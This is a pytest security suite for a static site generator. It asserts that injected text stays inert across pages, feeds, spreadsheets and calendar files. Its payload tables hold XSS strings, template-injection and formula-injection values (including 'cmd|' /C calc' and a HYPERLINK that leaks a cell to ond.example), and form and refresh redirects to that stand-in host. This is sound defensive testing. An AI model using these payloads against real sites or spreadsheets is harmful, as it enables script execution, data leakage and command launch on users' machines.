"""What somebody could put in a text to make it run: in every text field and in bodies, built, opened, and dead.

The site's own policy (test_policy.py) is taken out of the pages before they are opened, so that this shows what reaches
a page, not what a browser stops there.
"""

from __future__ import annotations

import csv
import functools
import http.server
import io
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from bad_files import workbook
from defusedxml import ElementTree
from lxml import html as lxml_html
from playwright.sync_api import Browser, Route
from support import Quiet, make_checkout, writeup

from macros.content.load import load
from macros.content.markdown.body import render
from macros.content.markdown.links import Links
from macros.engine.build import build_site
from macros.site.checks import check
from macros.site.policy import frame_scripts, unknown_programs
from macros.text.spreadsheets import starts_formula

# In bodies. What each is: HTML that runs, addresses that run, Markdown's own extensions, templates, mutations.
BODIES = {
    "script": "<script>window.live = 1</script>",
    "onerror": '<img src="x" alt="Øy" onerror="window.live = 1">',
    "link": "[Øy](javascript:window.live=1)",
    "link, coded": "[Øy](&#106;avascript&colon;window.live=1)",
    "link, tab": '<a href="java&#9;script:window.live=1">Øy</a>',
    "link, vbscript": "[Øy](vbscript:x)",
    "autolink": "<javascript:window.live=1>",
    "reference": "[Øy][x]\n\n[x]: javascript:window.live=1",
    "attr_list": 'Øy\n{: onclick="window.live=1" }',
    "attr_list, inline": "[Øy](https://øy.example){: onmouseover=window.live=1 }",
    "blocks": "/// html | script\nwindow.live=1\n///",
    "data": "[Øy](data:text/html;base64,PHNjcmlwdD4=)",
    "iframe": '<iframe srcdoc="<script>parent.live=1</script>"></iframe>',
    "style": "<style>@import 'https://ond.example/x.css';</style>",
    "style attribute": '<p style="background:url(https://ond.example/x)">Øy</p>',
    "form": '<form action="https://ond.example"><button>Øy</button></form>',
    "remote image": "![Øy](https://ond.example/spor.png)",
    "svg": '<svg onload="window.live=1"><script>window.live=1</script></svg>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://ond.example">',
    "base": '<base href="https://ond.example/">',
    "object": '<object data="https://ond.example"></object><embed src="https://ond.example">',
    "focus": "<input autofocus onfocus=window.live=1>",
    "toggle": "<details open ontoggle=window.live=1><summary>Øy</summary></details>",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.live=1&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.live=1>">Øy</noscript>',
    "unfinished": "<img src=x onerror=window.live=1 alt=Øy ",
    "comment": "<!--><img src=x onerror=window.live=1>-->",
    "snippet": '--8<-- "mkdocs.yml"',
    "template": "{{ 1337 * 3 }} {% raw %}{{ config.hooks }}{% endraw %}",
    "macro": "{{ key_figure('x') }}{{ 'a' * 10 ** 9 }}",
    "code": "`<script>window.live=1</script>`\n\n    <img src=x onerror=window.live=1>",
}
# In front matter. Each breaks out of one of the places where the text is put.
FIELDS = {
    "refresh": '0;url=/ond/" http-equiv="refresh',
    "attribute": '" autofocus onfocus="window.live=1',
    "attribute, single": "' onmouseover='window.live=1",
    "element": '"><script>window.live=1</script><img src=x onerror=window.live=1>',
    "json": "</script><script>window.live=1</script>",
    "title": "</title><script>window.live=1</script>",
    "comment": "--><script>window.live=1</script><!--",
    "cdata": "]]><script>window.live=1</script>",
    "entity": "&lt;script&gt;window.live=1&lt;/script&gt;&#60;img src=x onerror=window.live=1&#62;",
    "template": "{{ 1337 * 3 }}{% set x = config.hooks %}{# øy #}",
    "markdown": "](javascript:window.live=1) [Øy](javascript:window.live=1)",
    "formula": '=HYPERLINK("https://ond.example/?"&A1;"Øy")',
    "plus": "+SUM(1)|cmd!A1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "lines": "Øy\\nEND:VEVENT\\nBEGIN:VEVENT\\nSUMMARY:Ond\\n# Ond",
    "tab": "\\t=1+1",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.live=1>",
    "protocol": "javascript:window.live=1",
}
NUMBER = {name: index for index, name in enumerate(FIELDS)}
ADDRESS = re.compile(r"^[\x00-\x20]*(javascript|vbscript|data)\s*:", re.IGNORECASE)


def quoted(text: str) -> str:
    """As a double-quoted scalar of YAML: backslashes in FIELDS are escapes of YAML."""
    return '"' + text.replace('"', '\\"') + '"'


def one_line(payload: str) -> str:
    """As a title may be: one of several lines is a mistake of its own."""
    return payload.replace("\\n", " ")


def everywhere(payload: str) -> str:
    """A project with the payload in every field that takes text."""
    q = quoted(payload)
    bodies = [text for name, text in BODIES.items() if name in ("code", "template", "snippet", "attr_list")]
    return writeup(
        "## Mål\n\nBlåbær.\n\n" + "\n\n".join(bodies) + "\n",
        title=quoted(f"{one_line(payload)} {NUMBER[next(k for k, v in FIELDS.items() if v == payload)]}"),
        summary=q,
        source=f"[{{title: {q}, section: {q}, url: https://øy.example, as_of: 2024}}]",
        aliases=f"[{q}]",
        builds_on=f"[{q}]",
        classified_by=q,
        outcome=f"{{status: ukjent, reason: {q}, scope: {q}}}",
        adopted_by=f"[{{organisation: {q}, adapted: {q}, result: {q}}}]",
        contact=f"{{role: {q}, organisation: {q}}}",
        benefits=f"[{{id: g1, type: annen-gevinst, description: {q}, indicator: {q}, unit: {q}, baseline: {{value: 3, date: 2024}}}}]",
        downloads=f"[{{file: plan.xlsx, title: {q}, rights: {q}}}]",
        published="2026-11-01",
        updated="2026-11-02",
    )


def tool(payload: str) -> str:
    q = quoted(payload)
    return (
        f"---\ntitle: {quoted(one_line(payload) + ' verktøy')}\nsummary: {q}\nsource: [{{title: {q}, section: {q}}}]\n"
        f"participants: [{q}]\naliases: [{q}]\nversion: \"1.0\"\nchanges: [{{version: \"1.0\", date: 2026-01-01, text: {q}}}]\n"
        "---\n\n## Slik gjør du\n\nBlåbær.\n"
    )  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site built from all of them, without its policy."""
    folder = tmp_path_factory.mktemp("ond")
    projects = {f"p{index}/index.md": everywhere(text) for index, text in enumerate(FIELDS.values())}
    tools = {f"v{index}/index.md": tool(text) for index, text in enumerate(FIELDS.values())}
    root = make_checkout(folder, projects, tools)
    for name in projects:
        (root / "projects" / name).parent.joinpath("plan.xlsx").write_bytes(workbook())
    errors = [p.as_text() for p in check(load(root)) if p.severity == "error"]
    assert errors == [], "text is text: nothing of this is wrong as such"
    build_site(root, folder / "site")
    for page in (folder / "site").rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        page.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text), encoding="utf-8")
    return folder / "site"


def live(root: Any, known: frozenset[str], redirects: bool = False) -> list[str]:
    """What would run, fetch or lead astray in a parsed page."""
    found = [p.value for p in unknown_programs(root, "/", known)]
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        for name in ("href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data", "content"):
            if ADDRESS.match(element.get(name) or "") and name != "content":
                found.append(f"{element.tag} {name}")
        if element.tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh" and not redirects:
            found.append("refresh")
        if element.tag in ("math", "applet", "frame", "frameset", "portal"):
            found.append(element.tag)
        if element.tag in ("img", "script", "source") and "//" in (element.get("src") or ""):
            found.append("remote")
        if element.tag == "form" and not (element.get("action") or "/").startswith("/"):
            found.append("form")
    return found


@pytest.mark.parametrize("name", BODIES)
def test_a_body_is_told_or_harmless_and_dead_either_way(name: str, tmp_path: Path) -> None:
    body, problems = render(BODIES[name], Links(make_checkout(tmp_path, {}), "projects/øy.md"), 12)
    assert live(lxml_html.fragment_fromstring(body.html or " ", create_parent="div"), frozenset()) == []
    assert "4011" not in body.html and "site_name" not in body.html
    harmless = name in (
        "code",
        "template",
        "snippet",
        "attr_list",
        "attr_list, inline",
        "blocks",
        "macro",
        "unfinished",
        "focus",
        "autolink",
    )
    assert bool([p for p in problems if p.severity == "error"]) or harmless
    assert all(p.line >= 12 for p in problems)


@pytest.mark.browser
def test_bodies_are_dead_in_a_browser_too(browser: Browser, tmp_path: Path) -> None:
    """The cleaned HTML without a frame around it, without a policy: a browser repairs HTML in its own way."""
    links = Links(make_checkout(tmp_path, {}), "projects/øy.md")
    page = browser.new_page()
    asked: list[str] = []
    shown = {"html": ""}

    def answer(route: Route) -> None:
        if route.request.url == "http://site.test/":
            route.fulfill(body=shown["html"], content_type="text/html; charset=utf-8")
        else:
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", answer)
    for name, text in BODIES.items():
        body, _ = render(text, links, 12)
        shown["html"] = f"<!doctype html><main>{body.html}</main>"
        page.goto("http://site.test/")
        page.evaluate("for (const a of document.links) if (!/^https?:/.test(a.protocol)) a.click()")
        assert page.evaluate("window.live") is None, name
        assert page.evaluate("document.querySelectorAll('script, iframe, form, style, object').length") == 0, name
    assert [url for url in asked if "ond.example" in url] == []
    page.close()


@pytest.mark.site
def test_every_page_is_dead(hostile: Path) -> None:
    known = frame_scripts(hostile)
    pages = sorted(hostile.rglob("*.html"))
    assert len([p for p in pages if p.parent.parent.name in ("prosjekter", "verktoy")]) >= 2 * len(FIELDS)
    for page in pages:
        assert live(lxml_html.parse(str(page)).getroot(), known) == [], page
        assert "4011" not in page.read_text(encoding="utf-8"), "a template was run"


@pytest.mark.site
def test_the_text_is_shown_as_it_was_written(hostile: Path) -> None:
    """Dead because it is escaped, once, and not because it is gone."""
    for name, index in NUMBER.items():
        root = lxml_html.parse(str(hostile / f"prosjekter/p{index}/index.html")).getroot()
        wanted = " ".join((FIELDS[name].replace("\\n", "\n").replace("\\t", "\t") + f" {index}").split())
        (heading,) = root.xpath("//h1")
        assert " ".join(heading.text_content().split()) == wanted
        assert wanted in " ".join(root.xpath("string(//head/title)").split())
        described = root.xpath("string(//meta[@name='description']/@content)")
        assert " ".join(described.split()) == wanted.removesuffix(f" {index}")
        shared = [m for m in root.xpath("//meta[@property='og:title']/@content") if wanted not in " ".join(m.split())]
        assert shared == []
        data = [json.loads(s.text) for s in root.iter("script") if s.get("type") == "application/ld+json"]
        assert wanted in " ".join(
            json.dumps(data, ensure_ascii=False).replace("\\n", " ").replace("\\t", " ").replace('\\"', '"').split()
        )


@pytest.mark.site
def test_feeds_are_dead(hostile: Path) -> None:
    entries = ElementTree.parse(hostile / "feed.xml").getroot().findall("{*}entry")
    assert len(entries) >= len(FIELDS)
    for entry in entries:
        for element in entry.iter():
            text = element.text or ""
            kind = element.get("type")
            if kind == "html" and text.strip():
                assert live(lxml_html.fragment_fromstring(text, create_parent="div"), frozenset()) == []
            assert not ADDRESS.match(element.get("href") or "")
    for item in json.loads((hostile / "feed.json").read_text(encoding="utf-8"))["items"]:
        if item.get("content_html"):
            assert live(lxml_html.fragment_fromstring(item["content_html"], create_parent="div"), frozenset()) == []
        assert item["url"].startswith("https://innomed.no/")


@pytest.mark.site
def test_tables_are_dead(hostile: Path) -> None:
    """Workbooks hold text as text, and CSV holds nothing that a spreadsheet would run."""
    tables = list(hostile.rglob("*.csv"))
    assert tables
    for file in tables:
        for row in csv.reader(io.StringIO(file.read_text(encoding="utf-8-sig"), newline=""), delimiter=";"):
            assert [cell for cell in row if starts_formula(cell)] == [], file
    for file in hostile.rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(file):
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert not re.search(r"ond\.example|cmd|SUM\(1", str(cell.value)), (file, cell.coordinate)
                    if cell.hyperlink and cell.hyperlink.target:
                        assert cell.hyperlink.target.startswith(("https://", "mailto:")), (file, cell.coordinate)


@pytest.mark.site
def test_texts_for_programs_keep_their_lines(hostile: Path) -> None:
    """llms.txt is Markdown and the calendar is lines: a text in them is one line and leads only here."""
    text = (hostile / "llms.txt").read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)\]\((?!https://innomed\.no/)", text)
    assert [line for line in text.splitlines() if line.startswith("# ")] == [text.splitlines()[0]]
    calendar = (hostile / "utlysninger/frister.ics").read_bytes().decode()
    assert "Ond" not in calendar
    for file in hostile.rglob("*.json"):
        json.loads(file.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def hostile_address(hostile: Path) -> Iterator[str]:
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(hostile))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


@pytest.mark.site
@pytest.mark.browser
def test_nothing_runs_navigates_or_asks_elsewhere(browser: Browser, hostile: Path, hostile_address: str) -> None:
    """Every page opened; the search, the list and the menus used; every link that is no page here clicked."""
    page = browser.new_page(base_url=hostile_address)
    elsewhere: list[str] = []
    dialogs: list[str] = []
    page.on(
        "request",
        lambda r: elsewhere.append(r.url) if not r.url.startswith((hostile_address, "data:", "blob:")) else None,
    )
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    addresses = sorted(
        f"/{f.relative_to(hostile).as_posix()}".removesuffix("index.html") for f in hostile.rglob("*.html")
    )
    own = [a for a in addresses if re.match(r"/(prosjekter|verktoy)/[pv]\d+/$", a)]
    kinds = ["/", "/prosjekter/", "/prosjekter/a-aa/", "/verktoy/", "/gevinster/", "/portefolje/", "/bidra/kvalitet/", "/bidra/oppfolging/", "/data/"]  # fmt: skip
    for address in [*own, *(k for k in kinds if k in addresses)]:
        page.goto(address, wait_until="load")
        page.evaluate("""for (const e of document.querySelectorAll('*')) {
          for (const n of ['mouseover', 'focus', 'error', 'load', 'toggle']) e.dispatchEvent(new Event(n, {bubbles: true}));
          if (e.tagName === 'A' && !/^(https?|mailto):/.test(e.protocol)) e.click(); }""")
        assert page.evaluate("window.live") is None, address
        assert page.url == hostile_address + address
    page.goto("/prosjekter/")
    for text in ("window.live", "script", "Øy", "onerror"):
        page.locator("#im-search-q").fill(text) if page.locator("#im-search-q").is_visible() else None
        page.locator("main input[type=search]").first.fill(text)
        page.wait_for_timeout(400)
        assert page.evaluate("window.live") is None
    page.goto("/prosjekter/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dwindow.live%3D1%3E&region=%3Cscript%3E")
    page.wait_for_timeout(400)
    assert page.evaluate("window.live") is None
    assert (elsewhere, dialogs) == ([], [])
    page.close()
